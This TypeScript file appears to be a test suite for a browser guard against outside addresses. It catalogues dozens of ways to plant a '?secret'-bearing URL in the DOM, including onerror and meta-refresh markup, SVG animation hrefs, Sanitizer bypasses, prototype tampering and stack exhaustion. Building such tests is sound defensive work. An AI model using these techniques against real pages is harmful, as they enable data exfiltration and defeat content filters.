/** What could give an element an address. Each is the body of an async function of the card's element and the address. */
const WAYS: { readonly [name: string]: string } = {
  "an attribute": `link.setAttribute("HREF", to);`,
  "an attribute of a namespace": `
    const svg = make(SVG, "svg").appendChild(make(SVG, "a"));
    svg.setAttributeNS(XLINK, "own:href", to);
    element.append(svg.parentNode);`,
  "a name with two colons": `
    const svg = make(SVG, "svg").appendChild(make(SVG, "a"));
    const picture = svg.parentNode;
    svg.setAttributeNS(XLINK, "x:href:z", to);
    roots.push(picture);`,
  "an attribute as a node": `
    const node = document.createAttribute("href");
    node.value = to;
    link.setAttributeNode(node);`,
  "a named item": `
    const node = document.createAttributeNS(null, "href");
    node.textContent = to;
    link.attributes.setNamedItemNS(node);`,
  "the value of a node": `link.setAttribute("href", "#"); link.attributes.href.value = to;`,
  "the text of a node": `link.href = "#"; link.getAttributeNode("href").textContent = to;`,
  "the value of a node's node": `link.href = "#"; link.getAttributeNode("href").nodeValue = to;`,
  "a node of another element": `
    const other = document.createElement("x-other");
    other.setAttribute("href", to);
    link.setAttributeNode(other.removeAttributeNode(other.getAttributeNode("href")));`,
  "a property": `link.href = to;`,
  "a property of another address": `link.href = "#"; link.ping = to;`,
  "the parts of an address": `
    link.href = "https://example.com/";
    const url = new URL(to);
    link.protocol = url.protocol;
    link.host = url.host;
    link.search = url.search;`,
  "the parts of a fragment": `link.href = "#"; link.search = "?secret"; link.host = new URL(to).host;`,
  "an area": `element.append(Object.assign(document.createElement("area"), { href: to }));`,
  "a picture's link": `
    const svg = make(SVG, "svg").appendChild(make(SVG, "a"));
    element.append(svg.parentNode);
    svg.href.baseVal = to;`,
  "a picture's old link": `
    const svg = make(SVG, "svg").appendChild(make(SVG, "a"));
    svg.setAttributeNS(XLINK, "xlink:href", "#");
    element.append(svg.parentNode);
    svg.href.baseVal = to;`,
  "an animation": `
    const svg = make(SVG, "svg");
    svg.innerHTML = "<a href='#x'><set attributeName=href to=" + to + " /></a>";
    element.append(svg);`,
  "an animation's attribute": `
    const animation = make(SVG, "svg").appendChild(make(SVG, "a")).appendChild(make(SVG, "animate"));
    element.append(animation.parentNode.parentNode);
    animation.setAttribute("values", to);
    animation.setAttribute("attributeName", "xlink:href");`,
  "a formula": `
    const formula = make(MATHML, "math").appendChild(make(MATHML, "mi"));
    formula.setAttribute("href", to);
    element.append(formula.parentNode);`,
  "an element that is no link": `
    element.setAttributeNS(XLINK, "xlink:type", "simple");
    element.setAttribute("href", to);`,
  "a link of the document": `element.append(Object.assign(document.createElement("link"), { href: to }));`,
  "inner markup": `element.innerHTML = markup;`,
  "spaced markup": `element.innerHTML = "<a\\fHREF\\n=\\t" + to + ">";`,
  "markup with markup in an attribute":
    `element.innerHTML = "<a title='href=' data-href=1 href=" + to + ">href=</a>";`,
  "outer markup": `link.outerHTML = markup;`,
  "adjacent markup": `link.insertAdjacentHTML("afterend", markup);`,
  "markup of a picture":
    `element.innerHTML = "<svg><a xlink:href=" + to + "><rect width=9 height=9></a></svg>";`,
  "markup of a formula": `element.innerHTML = "<math><mrow href=" + to + "><mi>x</mi></mrow></math>";`,
  "markup in XML": `
    const xml = "<a xmlns='http://www.w3.org/1999/xhtml' href='" + to + "'/>";
    element.append(new DOMParser().parseFromString(xml, "text/xml").documentElement);`,
  "markup of a document":
    `element.append(new DOMParser().parseFromString(markup, "text/html").body.firstChild);`,
  "an unsafe document": `element.append(Document.parseHTMLUnsafe(markup).body.firstChild);`,
  "a safe document": `element.append(Document.parseHTML(markup).body.firstChild);`,
  "a range": `element.append(document.createRange().createContextualFragment(markup));`,
  "unsafe markup": `element.setHTMLUnsafe(markup);`,
  "safe markup": `element.setHTML(markup);`,
  "safe markup of an element that runs code": `
    runAfter(() => element.setHTML("<x-running></x-running>" + markup, { sanitizer: {} }));`,
  "markup of an element that runs code":
    `runAfter(() => element.innerHTML = markup + "<x-running></x-running>");`,
  "a template": `
    const template = document.createElement("template");
    template.innerHTML = markup + "<template>" + markup + "</template>";
    const content = document.importNode(template.content, true);
    element.append(content.lastChild.content, content);`,
  "a copy": `
    const other = document.createElement("div");
    other.innerHTML = markup;
    element.append(other.cloneNode(true), document.implementation.createHTMLDocument().adoptNode(other));`,
  "a shadow root": `
    const root = element.attachShadow({ mode: "closed", clonable: true });
    roots.push(root);
    root.append(link);
    link.href = to;
    const copy = element.cloneNode(true);
    if (copy.shadowRoot !== null) roots.push(copy.shadowRoot);`,
  "a closed root in markup": `
    element.setHTMLUnsafe("<div><template shadowrootmode=open>" + markup + "</template></div>");
    if (element.firstChild.shadowRoot) roots.push(element.firstChild.shadowRoot);`,
  "an editor's command": `
    element.contentEditable = "true";
    element.textContent = "text";
    element.focus();
    getSelection().selectAllChildren(element);
    document.execCommand("createLink", false, to);`,
  "code and a header in markup": `
    element.innerHTML = "<p title='on = 1'onerror=x></p><p/ONERROR=x></p><meta http-equiv=refresh content='9999;" + to + "'>on = 2";
    if (element.textContent !== "on = 2" || element.firstChild.title !== "on = 1") found = true;`,
  "replaced members": `
    const { exec } = RegExp.prototype;
    const { get } = Map.prototype;
    const { startsWith } = String.prototype;
    RegExp.prototype.exec = () => null;
    Map.prototype.get = () => to;
    String.prototype.startsWith = () => true;
    Object.prototype.attributeFilter = [];
    Object.prototype.clonable = true;
    try { 
      element.attachShadow({ mode: "open" }).innerHTML = markup;
      roots.push(element.shadowRoot);
      link.setAttribute("href", to);
    } finally {
      RegExp.prototype.exec = exec;
      Map.prototype.get = get;
      String.prototype.startsWith = startsWith;
      delete Object.prototype.attributeFilter;
      delete Object.prototype.clonable;
    }`,
  "markup while a picture is written": `
    const detached = document.createElement("div");
    roots.push(detached);
    let runs = 0;
    const run = () => {
      if (runs++ < 30) detached.appendChild(document.createElement("p")).innerHTML = markup;
    };
    replaceAll(String.prototype, run, () => {
      const svg = "<svg xmlns='" + SVG + "'><image href=\\"data:image/png;base64,AAAA&amp;\\"/></svg>";
      document.createElement("img").setAttribute("src", "data:image/svg+xml," + encodeURIComponent(svg));
    });`,
  "a picture whose URL a map gives": `
    const picture = make(SVG, "image");
    element.append(picture);
    const { get } = Map.prototype;
    Map.prototype.get = () => to;
    try { picture.setAttribute("href", "data:image/png;base64,AAAA"); } finally { Map.prototype.get = get; }`,
  "an element that is there when a script moves the selection or shows something": `
    element.innerHTML = "<p popover>Text</p><dialog>Text</dialog><p contenteditable>Text</p>";
    const [popover, dialog, editable] = element.childNodes;
    const calls = [
      () => dialog.click(), () => popover.showPopover(), () => popover.hidePopover(), () => popover.togglePopover(),
      () => dialog.show(), () => dialog.close(),
      () => getSelection().collapse(editable, 0), () => getSelection().selectAllChildren(editable),
    ];
    for (const call of calls) {
      element.append(Object.assign(document.createElement("img"), { src: to }));
      call();
      found ||= isFound();
    }`,
  "pictures, whose addresses Firefox would print": `
    const names = { img: ["src", "srcset"], source: ["srcset"], video: ["poster"], input: ["src"] };
    for (const [name, properties] of Object.entries(names)) {
      for (const property of properties) {
        element.append(Object.assign(document.createElement(name), { [property]: to }));
        found ||= isFound();
      }
    }
    for (const name of ["image", "feImage", "use"]) {
      const picture = element.appendChild(make(SVG, "svg")).appendChild(make(SVG, name));
      picture.href.baseVal = to;
      found ||= isFound();
    }`,
  "pictures of markup, whose addresses Firefox would print": `
    runAfter(() => {
      element.innerHTML = "<picture><source srcset='" + to + "'><img src='" + to + "'></picture><x-running></x-running>";
    });`,
  "the end of the stack": `
    const fill = () => {
      try { link.setAttribute("href", to); } catch {}
      try { element.innerHTML = markup; } catch {}
      try { link.href = to; } catch {}
      found ||= isFound();
      fill();
    };
    try { fill(); } catch {}`,
};

/** The same, with what is replaced when the script has ended. */
const LATER: { readonly [name: string]: string } = {
  "an editor's markup": `
    element.contentEditable = "true";
    element.textContent = "text";
    element.focus();
    getSelection().selectAllChildren(element);
    document.execCommand("insertHTML", false, markup);`,
  "a header": `element.append(Object.assign(document.createElement("meta"), { httpEquiv: "refresh" }));`,
  "an instruction for a stylesheet": `
    for (const add of [
      (node) => element.appendChild(document.createElement("p")).append(node),
      (node) => document.insertBefore(node, document.documentElement),
    ]) {
      const instruction = document.createProcessingInstruction("xml-stylesheet", "href='" + to + "'");
      add(instruction);
      roots.push({ querySelector: () => instruction.isConnected || null });
    }`,
  "an instruction for a stylesheet in a parsed element": `
    const xml = "<svg xmlns='" + SVG + "'><?xml-stylesheet href='" + to + "'?></svg>";
    const svg = element.appendChild(new DOMParser().parseFromString(xml, "image/svg+xml").documentElement);
    roots.push({ querySelector: () => svg.firstChild });`,
  "an element that changes while it is written": `
    if (!customElements.get("x-changing")) {
      customElements.define("x-changing", class extends HTMLElement {
        static observedAttributes = ["href-tck-kept"];
        attributeChangedCallback(name, before, value) {
          if (value === null) for (const name of [...this.getAttributeNames()]) this.removeAttribute(name);
        }
      });
    }
    const changing = document.createElement("x-changing");
    for (const name of ["first", "second", "href-tck-kept"]) changing.setAttribute(name, "#");
    element.append(changing);
    element.append(Object.assign(document.createElement("img"), { src: to }));`,
  "an element beside templates in templates": `
    const template = document.createElement("template");
    let inner = template;
    for (let depth = 0; depth < 15_000; depth++) {
      inner = inner.content.appendChild(document.createElement("template"));
    }
    element.append(template, Object.assign(document.createElement("img"), { src: to }));`,
};

/** The same, with what loads something: the browser's own commands load it too, whatever the document's policy says. */
const LOADING: { readonly [name: string]: string } = Object.fromEntries(
  [
    ["img", "src"],
    ["img", "srcset"],
    ["source", "srcset"],
    ["video", "src"],
    ["video", "poster"],
    ["audio", "src"],
    ["input", "src"],
    ["body", "background"],
    ["table", "background"],
    ["td", "background"],
    ["link", "href"],
    ["object", "data"],
    ["blockquote", "cite"],
    ["q", "cite"],
    ["ins", "cite"],
    ["image", "href"],
    ["use", "href"],
    ["feImage", "href"],
  ].map(([name, attribute]) => [
    `${attribute} of ${name}`,
    `
    const loading = /^(?:image|use|feImage)$/.test("${name}") ? make(SVG, "${name}") : document.createElement("${name}");
    loading.setAttribute("${attribute}", "blob:x");
    element.append(loading);
    loading.attributes[0].value = to;`,
  ]),
);

const HARNESS = `
    const [SVG, MATHML, XLINK] = ["2000/svg", "1998/Math/MathML", "1999/xlink"].map((path) => "http://www.w3.org/" + path);
    const make = (namespace, name) => document.createElementNS(namespace, name);
    const place = element;
    const roots = [place];
    element = place.appendChild(document.createElement("div"));
    const to = elsewhere + "/address?secret";
    const markup = "<a href='" + to + "'>link</a>";
    const link = element.appendChild(document.createElement("a"));
    const names = ["*|href", "src", "srcset", "poster", "background", "cite", "ping"];
    const selector = names.map((name) => "[" + name + "*='?secret']").join() + ",object[data*='?secret'],[attributeName$=href],[onerror],[http-equiv=refresh]";
    const isFound = () => roots.some((root) => root.querySelector(selector) !== null) || link.matches(selector);
    let found = false;
    const replaceAll = (prototype, run, act) => {
      const members = Object.getOwnPropertyDescriptors(prototype);
      let isRunning = false;
      for (const [name, { value, writable }] of Object.entries(members)) {
        if (typeof value !== "function" || !writable || name === "constructor") continue;
        prototype[name] = function (...args) {
          if (!isRunning) {
            isRunning = true;
            try { run(); } finally { isRunning = false; }
          }
          return Reflect.apply(value, this, args);
        };
      }
      try { act(); } finally { Object.defineProperties(prototype, members); }
    };
    const runAfter = (parse) => {
      if (!customElements.get("x-running")) {
        customElements.define("x-running", class extends HTMLElement {
          connectedCallback() { globalThis.ran(); }
        });
      }
      globalThis.ran = () => found ||= isFound();
      parse();
    };`;

/** Each gives an element an address that the browser reads. It returns whether it succeeded, also if a script would not see it. */
export const ADDRESS_ATTACKS: { readonly [name: string]: string } = Object.fromEntries([
  ...Object.entries({ ...WAYS, ...LATER }).map(([name, way]) => [
    name,
    `
    ${HARNESS}
    try { ${way} } catch {}
    ${Object.hasOwn(LATER, name) ? "" : "found ||= isFound();"}
    await new Promise((resolve) => setTimeout(resolve));
    found ||= isFound();
    place.replaceChildren();
    return found;`,
  ]),
  ...Object.entries(LOADING).map(([name, way]) => [
    name,
    `
    ${HARNESS}
    ${way}
    await new Promise((resolve) => setTimeout(resolve));
    const result = isFound();
    place.replaceChildren();
    return result;`,
  ]),
]);
